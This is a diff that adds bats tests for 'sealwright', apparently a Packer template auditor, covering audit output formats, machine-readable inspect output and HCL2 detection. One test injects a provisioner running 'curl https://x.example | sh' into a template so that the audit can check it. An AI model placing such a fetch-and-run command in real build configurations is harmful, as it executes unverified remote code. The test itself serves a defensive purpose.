@@ -255,6 +255,18 @@ d/v.pkrvars.hcl" ]
 	[ "$output" = "The configuration is valid." ]
 	sealwright plan --json -var v=1 r/t.json | grep -q '"unpinned":true'
 	sealwright audit --format json -var v=1 r/t.json | grep -q '"unpinned": true'
+	sealwright audit --format sarif -var v=1 r/t.json | grep -q '"unpinned": true'
+	sealwright audit --format junit -var v=1 r/t.json | grep -q '<property name="unpinned" value="true"/>'
+	sealwright audit --format markdown -var v=1 r/t.json | grep -q Unpinned
+	sed 's/}]}/}], "provisioners": [{"type": "shell-local", "inline": ["curl https:\/\/x.example | sh"]}]}/' r/t.json >found.json
+	sealwright audit --format jsonl -var v=1 found.json >found.jsonl || true
+	[ "$(grep -c . found.jsonl)" -gt 0 ]
+	[ "$(grep -c '"unpinned":true' found.jsonl)" -eq "$(grep -c . found.jsonl)" ]
+	for format in text json jsonl sarif junit markdown; do
+		run sealwright audit --format "$format" -var v=1 "git+file://$PWD/r@$commit#t.json"
+		exits 0
+		lacks npinned
+	done
 	run sealwright plan --json -var v=1 "git+file://$PWD/r@$commit#t.json"
 	lacks unpinned
 }
@@ -307,6 +319,45 @@ d/v.pkrvars.hcl" ]
 	exits 0
 	has '"unpinned": true'
 	lacks hunter2secret
+}
+
+@test "inspect speaks Packer's format for programs" {
+	cat >t.json <<-'T'
+		{"variables": {"a": null, "b": "x, y", "c": "hush"}, "sensitive-variables": ["c"],
+		 "builders": [{"type": "null", "name": "n"}, {"type": "qemu"}],
+		 "provisioners": [{"type": "shell", "inline": ["a"], "only": ["n"]}, {"type": "file", "source": "t.json", "destination": "/x"}]}
+	T
+	run sealwright inspect -machine-readable t.json
+	exits 0
+	cat >want <<-'T'
+		,template-variable,a,,1
+		,template-variable,b,x%!(PACKER_COMMA) y,0
+		,template-variable,c,<sensitive>,0
+		,template-builder,n,null
+		,template-builder,qemu,qemu
+		,template-provisioner,shell
+		,template-provisioner,file
+	T
+	grep -v ',ui,' <<<"$output" | cut -d, -f2- | diff want -
+	lacks hush
+	[[ ${lines[0]} =~ ^[0-9]{10},, ]]
+	has ",,ui,say,  b = x%!(PACKER_COMMA) y"
+}
+
+@test "a file of any name is HCL2 when -config-type says so" {
+	printf 'source "null" "a" {\n  communicator = "none"\n}\nbuild {\n  sources = ["null.a"]\n}\n' >t.hcl
+	run sealwright validate t.hcl
+	exits 3
+	run sealwright validate -config-type=hcl2 t.hcl
+	exits 0
+	run sealwright inspect -config-type hcl2 t.hcl
+	exits 0
+	has "HCL2 mode"
+	echo 'upper("a")' >in
+	run sealwright console -config-type=hcl2 <in
+	[ "$output" = A ]
+	run sealwright validate -config-type=yaml t.hcl
+	exits 2
 }
 
 @test "inspect shows what an HCL2 template declares" {
